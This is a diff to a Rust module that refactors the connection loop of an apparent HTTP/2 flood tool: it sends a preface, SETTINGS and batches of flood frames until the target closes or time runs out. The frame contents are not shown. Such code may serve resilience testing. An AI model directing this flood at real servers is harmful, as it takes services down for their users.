@@ -117,11 +117,21 @@ fn head(method: &str, path: &str) -> Vec<u8> {
     block
 }
 
-/// Attacks over one connection until it ends or the time is over; the bytes that were sent.
-pub(super) fn attack(target: SocketAddr, flood: Flood, until: Instant) -> anyhow::Result<u64> {
-    let mut stream = TcpStream::connect(target)?;
+/// What an attacker writes to and reads from.
+pub(super) trait Wire: Read + Write {}
+
+impl<T: Read + Write> Wire for T {}
+
+/// A connection on which nobody waits for long.
+pub(super) fn connect(target: SocketAddr) -> std::io::Result<TcpStream> {
+    let stream = TcpStream::connect(target)?;
     stream.set_write_timeout(Some(PATIENCE))?;
     stream.set_read_timeout(Some(PATIENCE))?;
+    Ok(stream)
+}
+
+/// Attacks over one connection until it ends or the time is over; the bytes that were sent.
+pub(super) fn attack(stream: &mut dyn Wire, flood: Flood, until: Instant) -> u64 {
     let mut opening = PREFACE.to_vec();
     opening.extend(frame(SETTINGS, 0, 0, &[]));
     opening.extend(flood.opening());
@@ -130,10 +140,14 @@ pub(super) fn attack(target: SocketAddr, flood: Flood, until: Instant) -> anyhow
     let mut next = opening;
     while Instant::now() < until {
         if next.is_empty() {
-            if has_ended(&mut stream) {
+            if has_ended(stream) {
                 break;
             }
-        } else if stream.write_all(&next).is_err() {
+        } else if stream
+            .write_all(&next)
+            .and_then(|()| stream.flush())
+            .is_err()
+        {
             break;
         }
         sent += next.len() as u64;
@@ -142,11 +156,11 @@ pub(super) fn attack(target: SocketAddr, flood: Flood, until: Instant) -> anyhow
             .collect();
         n += AT_ONCE;
     }
-    Ok(sent)
+    sent
 }
 
 /// Reads what comes; whether the connection has ended.
-fn has_ended(stream: &mut TcpStream) -> bool {
+fn has_ended(stream: &mut dyn Wire) -> bool {
     let mut piece = [0; 16 * 1024];
     match stream.read(&mut piece) {
         Ok(0) => true,
